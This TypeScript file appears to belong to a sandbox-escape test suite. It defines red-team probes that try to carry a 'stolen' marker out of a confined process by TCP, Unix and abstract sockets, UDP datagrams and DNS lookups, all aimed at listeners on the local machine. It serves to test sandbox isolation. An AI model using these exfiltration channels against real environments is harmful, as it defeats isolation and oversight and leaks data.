import { createSocket } from "node:dgram";
import { Resolver } from "node:dns/promises";
import { connect, type NetConnectOpts } from "node:net";
import { setTimeout as after } from "node:timers/promises";
import type { Attacker } from "../attacker.ts";
import { escaped } from "../probe.ts";

/** Knocks at a listener of the red team, which is the one that says whether it was reached. */
const knock = async (attacker: Attacker, where: NetConnectOpts): Promise<void> => {
  attacker.leaveTables();
  await inTime(
    new Promise<void>((settled) => {
      const socket = connect(where, () => socket.end("stolen"));
      socket.on("error", () => {}).on("close", () => settled());
    }),
  );
};

/** Whatever still waits by then is of no use before the run is over. */
const inTime = async (attempt: Promise<unknown>): Promise<void> => {
  await Promise.race([attempt.catch(() => {}), after(500)]);
  process.exit(0);
};

const loopback = "127.0.0.1";

/** Ways out, all to listeners on this machine. */
export const network = [
  escaped({
    name: "TCP",
    wants: "to send what it knows over a connection",
    alsoPastNode: true,
    run: (attacker) => knock(attacker, { host: loopback, port: attacker.targets.tcpPort }),
  }),
  escaped({
    name: "unix socket",
    wants: "a service of this machine by the path of its socket",
    alsoPastNode: true,
    run: (attacker) => knock(attacker, { path: attacker.targets.unixSocket }),
  }),
  escaped({
    name: "abstract unix socket",
    wants: "a service of this machine that has no path",
    alsoPastNode: true,
    run: (attacker) => knock(attacker, { path: attacker.targets.abstractSocket }),
  }),
  escaped({
    name: "UDP",
    wants: "to send what it knows in a datagram",
    alsoPastNode: true,
    run: async (attacker) => {
      attacker.leaveTables();
      await inTime(
        new Promise<void>((sent) => {
          const socket = createSocket("udp4").on("error", () => sent());
          socket.send("stolen", attacker.targets.udpPort, loopback, () => sent());
        }),
      );
    },
  }),
  escaped({
    name: "DNS",
    wants: "to send what it knows as a name to look up",
    alsoPastNode: true,
    run: async (attacker) => {
      attacker.leaveTables();
      const resolver = new Resolver({ timeout: 400, tries: 1 });
      resolver.setServers([`${loopback}:${attacker.targets.udpPort}`]);
      await inTime(resolver.resolve4("stolen.example"));
    },
  }),
];
